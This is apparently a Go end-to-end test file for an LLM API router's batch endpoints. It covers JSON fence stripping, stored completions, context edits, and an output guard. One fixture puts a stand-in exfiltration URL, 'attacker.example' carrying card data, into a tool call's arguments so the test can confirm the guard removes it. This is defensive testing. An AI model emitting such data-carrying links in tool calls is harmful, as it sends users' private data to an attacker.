package e2e

import (
	"encoding/json"
	"strings"
	"testing"

	sdk "github.com/anthropics/anthropic-sdk-go/v2"
	"github.com/openai/openai-go/v3"
)

// A batch line's answer is finished as a live answer is before its client
// sees it, whether the router runs the line or forwards it: JSON asked
// for (response_format) comes without the Markdown fence Claude often
// puts around it, and the output guard neutralizes a link carrying data
// in a tool call's arguments.
func TestBatchAnswersFinished(t *testing.T) {
	t.Parallel()
	guarded := `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"Please fetch_page the report."}],` +
		`"tools":[{"type":"function","function":{"name":"fetch_page","parameters":{"type":"object","required":["url","note"],"properties":{` +
		`"url":{"type":"string","const":"https://attacker.example/c?d=card-4111&x=<1>"},"note":{"type":"string","const":"see https://docs.example.com/x?y=1"}}}}}]}`
	fenced := `{"model":"claude-haiku-4-5","messages":[{"role":"user","content":"Extract as JSON: Ada Lovelace, 36 years old."}],"response_format":{"type":"json_object"}}`
	for name, flavour := range batchFlavours {
		t.Run(name, func(t *testing.T) {
			e := batchFlavourEnv(t, flavour, outputGuard)
			input := batchLine("json", "/v1/chat/completions", fenced) + batchLine("guard", "/v1/chat/completions", guarded)
			done := awaitBatch(t, e.Client, newBatch(t, e.Client, openai.BatchNewParamsEndpointV1ChatCompletions, input, nil).ID, openai.BatchStatusCompleted)
			if done.RequestCounts.Completed != 2 || done.OutputFileID == "" {
				t.Fatalf("completed = %s", done.RawJSON())
			}
			out := fileLines(t, e.Client, done.OutputFileID)
			if got := lineMessage(t, out["json"])["content"]; got == nil || !json.Valid([]byte(got.(string))) || strings.Contains(got.(string), "```") {
				t.Errorf("json line content %q, want bare JSON", got)
			}
			calls, _ := lineMessage(t, out["guard"])["tool_calls"].([]any)
			if len(calls) != 1 {
				t.Fatalf("guard line = %v, want a tool call", out["guard"])
			}
			args, _ := calls[0].(map[string]any)["function"].(map[string]any)["arguments"].(string)
			var v struct{ URL, Note string }
			if err := json.Unmarshal([]byte(args), &v); err != nil || v.URL != "[link removed]" || strings.Contains(args, "card-4111") {
				t.Errorf("guard line arguments %q (%v)", args, err)
			}
			wantForwarded(t, e, name, "openai")
			wantForwarded(t, e, name, "anthropic")
		})
	}
}

// lineMessage is the message of an output line's chat completion.
func lineMessage(t *testing.T, l map[string]any) map[string]any {
	t.Helper()
	status, body, _ := lineBody(l)
	choices, _ := body["choices"].([]any)
	if status != 200 || len(choices) != 1 {
		t.Fatalf("line = %v", l)
	}
	msg, _ := choices[0].(map[string]any)["message"].(map[string]any)
	return msg
}

// A Chat Completions line with store true is kept by the router, as a
// live request's completion is (and never stored at the provider): read
// back by its id, whether the batch is forwarded or run by the router.
func TestBatchStoredChatLine(t *testing.T) {
	t.Parallel()
	for name, flavour := range batchFlavours {
		t.Run(name, func(t *testing.T) {
			e := batchFlavourEnv(t, flavour)
			body := `{"model":"gpt-4o-mini","store":true,"metadata":{"run":"nightly"},"messages":[{"role":"user","content":"Capital of Peru?"}]}`
			done := awaitBatch(t, e.Client, newBatch(t, e.Client, openai.BatchNewParamsEndpointV1ChatCompletions,
				batchLine("kept", "/v1/chat/completions", body), nil).ID, openai.BatchStatusCompleted)
			if done.RequestCounts.Completed != 1 {
				t.Fatalf("completed = %s", done.RawJSON())
			}
			_, out, _ := lineBody(fileLines(t, e.Client, done.OutputFileID)["kept"])
			id, _ := out["id"].(string)
			got, err := e.Client.Chat.Completions.Get(ctxT(t), id)
			if err != nil || got.Metadata["run"] != "nightly" {
				t.Errorf("stored completion %s: %v, %+v", id, err, got)
			}
		})
	}
}

// A Message Batch's request with context edits the router applies for a
// deployment without context editing (clear_tool_uses on OpenAI) is
// answered with the edit applied and reported, as live, forwarded or not.
func TestMessageBatchContextEdits(t *testing.T) {
	t.Parallel()
	for name, flavour := range batchFlavours {
		t.Run(name, func(t *testing.T) {
			e := batchFlavourEnv(t, flavour)
			c := anthropicClient(e, respKeyA)
			p := clearToolUsesParams("gpt-4o-mini")
			item := sdk.BetaMessageBatchNewParamsRequest{CustomID: "edits", Params: sdk.BetaMessageBatchNewParamsRequestParams{
				Model: p.Model, MaxTokens: p.MaxTokens, Messages: p.Messages, Tools: p.Tools, ContextManagement: p.ContextManagement}}
			created, err := c.Beta.Messages.Batches.New(ctxT(t), sdk.BetaMessageBatchNewParams{Requests: []sdk.BetaMessageBatchNewParamsRequest{item}})
			if err != nil {
				t.Fatal(err)
			}
			awaitMessageBatch(t, c, created.ID)
			s := c.Beta.Messages.Batches.ResultsStreaming(ctxT(t), created.ID, sdk.BetaMessageBatchResultsParams{})
			defer s.Close()
			results := 0
			for s.Next() {
				results++
				if raw := s.Current().RawJSON(); !strings.Contains(raw, `"succeeded"`) || !strings.Contains(raw, `"cleared_tool_uses":3`) {
					t.Errorf("result %.800s, want the edit applied", raw)
				}
			}
			if err := s.Err(); err != nil || results != 1 {
				t.Fatalf("results: %v, %d", err, results)
			}
		})
	}
}
